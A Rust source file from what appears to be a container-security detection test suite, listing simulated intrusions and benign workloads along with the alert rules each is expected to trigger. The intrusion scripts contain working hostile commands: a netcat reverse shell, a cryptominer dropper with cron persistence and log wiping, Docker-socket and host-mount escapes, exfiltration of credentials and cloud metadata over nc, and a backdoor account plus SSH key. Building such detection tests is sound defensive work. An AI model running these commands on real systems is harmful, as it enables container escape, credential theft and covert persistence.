//! What intruders do in a container of the [harbour](crate::harbour), and what everybody else does.
//!
//! Programs are called by their paths: busybox's shell would do what they do by itself, and no program would be run.

/// Something that happens in a container, and what the default rules say to it.
#[derive(Debug)]
pub struct Incident {
    /// Its name.
    pub name: &'static str,
    /// What the container gets from Docker; `{node}` stands for a directory like a node's root, `{own}` for address and
    /// port of the container's web server.
    pub options: &'static [&'static str],
    /// How it begins.
    pub way: Way,
    /// What is done: a shell's commands; of a load the number of requests. `{image}` stands for the containers' image,
    /// `{made}` for the name of a container that it makes.
    pub script: &'static str,
    /// The rules that find it, each of them; none for what nobody should be woken for.
    pub rules: &'static [&'static str],
}

/// How it begins.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Way {
    /// Through the web server's hole.
    Web,
    /// As whoever may run programs in the container: a build's job, an operator's tool.
    Exec,
    /// The same in a terminal, line after line.
    Terminal,
    /// Requests to the web server.
    Load,
}

/// The incident of a name.
pub fn named(name: &str) -> Option<&'static Incident> {
    INCIDENTS.iter().find(|incident| incident.name == name)
}

/// What those have who look after a node from a container.
const CARETAKER: &[&str] = &[
    "--cap-add=SYS_ADMIN",
    "--cap-add=SYS_PTRACE",
    "--security-opt=seccomp=unconfined",
    "--security-opt=apparmor=unconfined",
];

/// What intruders do.
pub const INCIDENTS: &[Incident] = &[
    Incident {
        name: "reverse-shell",
        options: &[],
        way: Way::Web,
        script: "/bin/nc 10.20.0.9 4444 -e /bin/sh",
        rules: &["Shell on a network connection", "Netcat gives a program away"],
    },
    Incident {
        name: "dropped-miner",
        options: &[],
        way: Way::Web,
        script: "cd /tmp
            /bin/wget -q -O /tmp/.kdevtmpfsi http://10.20.0.9/update
            /bin/chmod 755 /tmp/.kdevtmpfsi
            /tmp/.kdevtmpfsi mine -o stratum+tcp://10.20.0.9:3333 -u wallet -p x --donate-level 1
            echo '* * * * * /tmp/.kdevtmpfsi' >> /var/spool/cron/crontabs/root
            /bin/rm -f /var/log/auth.log",
        rules: &[
            "Program dropped and run",
            "Program fetched and run",
            "Crypto miner started",
            "Mining pool asked",
            "Scheduled job planted",
            "Log removed or emptied",
        ],
    },
    Incident {
        name: "docker-socket",
        options: &["-v=/var/run/docker.sock:/var/run/docker.sock", "-v={node}:/work"],
        way: Way::Exec,
        script: "/bin/ls -l /var/run/docker.sock
            /bin/workloads docker {made} {image} {node} 'echo key >> /host$1/root/.ssh/authorized_keys; /bin/cat /host$1/etc/shadow > /dev/null'
            /bin/cat /work/root/.ssh/authorized_keys",
        rules: &["Container runtime's socket used"],
    },
    Incident {
        name: "host-mount",
        options: &["-v={node}:/host", "--cap-add=SYS_ADMIN", "--security-opt=apparmor=unconfined"],
        way: Way::Web,
        script: "/bin/ls -la /host /host/root
            /bin/cat /host/etc/shadow
            echo 'ssh-ed25519 AAAA nobody' >> /host/root/.ssh/authorized_keys
            echo '* * * * * root /bin/true' > /host/etc/cron.d/update
            /bin/mkdir -p /tmp/cgroup
            /bin/mount -t cgroup -o rdma cgroup /tmp/cgroup
            echo /tmp/payload > /tmp/cgroup/release_agent
            /bin/umount /tmp/cgroup
            /bin/chroot /host /bin/busybox sh -c '/bin/busybox id; /bin/busybox touch /root/owned'",
        rules: &[
            "Host's secrets reached through a mount",
            "Host changed through a mount",
            "File system mounted in a container",
            "Release agent tried on an ordinary file",
            "Root changed to a mounted host",
        ],
    },
    Incident {
        name: "theft-and-scan",
        options: &["-e=KUBERNETES_SERVICE_HOST=10.20.0.1", "-e=KUBERNETES_SERVICE_PORT=443"],
        way: Way::Web,
        script: "/bin/cat /run/secrets/kubernetes.io/serviceaccount/token > /tmp/.loot
            /bin/find / -xdev -name 'id_ed25519' -o -xdev -name credentials
            /bin/cat /root/.aws/credentials /root/.ssh/id_ed25519 >> /tmp/.loot
            /bin/wget -q -O /tmp/.role http://169.254.169.254/latest/meta-data/iam/security-credentials/harbour
            /bin/nc -w 1 10.20.0.1 443 < /tmp/.loot
            /bin/workloads scan 10.20.0 1 40 22 5432
            /bin/workloads scan 10.20.0 12 12 20 21 22 23 25 53 80 110 111 135 139 143 389 443 445 993 1433 1521 2375 3306 3389 5432 5900 6379 8080 9200 27017
            /bin/workloads guess 10.20.0.12:22 25
            /bin/nc -w 1 10.20.0.9 443 < /tmp/.loot
            /bin/rm /tmp/.loot /tmp/.role",
        rules: &[
            "Service account token read by a tool",
            "Search for keys and passwords",
            "Credential file read by a tool",
            "Cloud metadata asked by a tool",
            "Credentials read, then a connection",
            "One port of many hosts tried",
            "Many ports of one host tried",
            "Log-ins tried one after the other",
        ],
    },
    Incident {
        name: "io-uring",
        options: &["--security-opt=seccomp=unconfined"],
        way: Way::Web,
        script: "/bin/workloads uring-steal /etc/shadow 10.20.0.9:443
            /bin/workloads uring-unlink /tmp/trace",
        rules: &["Credential file read around system calls"],
    },
    Incident {
        name: "fileless",
        options: &[],
        way: Way::Web,
        script: "/bin/workloads fileless http://10.20.0.9/update 10.20.0.9:443",
        rules: &["Program run from memory", "Program under the name of a kernel thread"],
    },
    Incident {
        name: "hijack",
        options: &[],
        way: Way::Web,
        script: "echo /tmp/hook.so > /etc/ld.so.preload
            /bin/rm /etc/ld.so.preload
            LD_PRELOAD=/tmp/hook.so /bin/id",
        rules: &["Library preload list written", "Library preloaded from a temporary directory"],
    },
    Incident {
        name: "backdoor",
        options: &[],
        way: Way::Web,
        script: "echo 'support:x:0:0::/:/bin/sh' >> /etc/passwd
            /bin/mkdir -p /root/.ssh
            echo 'ssh-ed25519 AAAA nobody' >> /root/.ssh/authorized_keys
            /bin/cp /bin/workloads /usr/bin/sshd
            /bin/rm -f /root/.ash_history; : > /var/log/access.log",
        rules: &[
            "Account file changed",
            "SSH key planted",
            "System program altered",
            "Shell history removed",
            "Log removed or emptied",
        ],
    },
    Incident {
        name: "tools",
        options: &[],
        way: Way::Web,
        script: "/bin/cp /bin/workloads /tmp/nmap
            /tmp/nmap scan 10.20.0 12 13 22
            /bin/telnet 10.20.0.12 22 < /dev/null",
        rules: &["Network tool started", "Program dropped and run"],
    },
    Incident {
        name: "namespaces",
        options: CARETAKER,
        way: Way::Web,
        script: "/bin/unshare -u -m /bin/sleep 2 &
            /bin/sleep 0.3
            /bin/nsenter -t $! -u -m /bin/true",
        rules: &["Namespace of another process joined"],
    },
];

/// What everybody else does: a package installed and used, a database started and asked, logs turned over, a web server
/// under load, an administrator's session.
pub const BENIGN: &[Incident] = &[
    Incident { name: "load", options: HEALTH, way: Way::Load, script: "400", rules: &[] },
    Incident {
        name: "package",
        options: HEALTH,
        way: Way::Exec,
        script: "/bin/wget -q -O /tmp/harbour-tool.deb http://10.20.0.9/harbour-tool.deb
            /bin/dpkg -i /tmp/harbour-tool.deb
            /bin/rm /tmp/harbour-tool.deb
            /usr/bin/harbour-tool marker",
        rules: &[],
    },
    Incident {
        name: "database",
        options: HEALTH,
        way: Way::Exec,
        script: "/bin/workloads database /var/lib/db 127.0.0.1:0 50",
        rules: &[],
    },
    Incident {
        name: "log-rotation",
        options: HEALTH,
        way: Way::Exec,
        script: "/bin/mv /var/log/access.log /var/log/access.log.1
            /bin/gzip /var/log/access.log.1
            : >> /var/log/access.log
            /bin/chmod 640 /var/log/access.log",
        rules: &[],
    },
    Incident {
        name: "administrator",
        options: HEALTH,
        way: Way::Terminal,
        script: "/bin/id
            /bin/ps
            /bin/ls -la /srv /etc
            /bin/cat /etc/passwd /etc/app.conf
            /bin/cp /etc/app.conf /etc/app.conf.bak
            /bin/sed -i 's/2/4/' /etc/app.conf
            /bin/tail -n 5 /var/log/auth.log
            /bin/grep -r workers /etc
            /bin/du -s /srv
            /bin/find /srv -name index.html
            /bin/tar -czf /tmp/srv.tar.gz /srv
            /bin/nc -w 1 10.20.0.13 5432 < /etc/app.conf
            /bin/md5sum /bin/busybox
            /bin/wget -q -O - http://{own}/index.html
            /bin/kill -0 1
            exit",
        rules: &[],
    },
];

/// A health check, as images bring it along.
const HEALTH: &[&str] = &["--health-cmd=/bin/wget -q -O /dev/null http://{own}/index.html", "--health-interval=2s"];
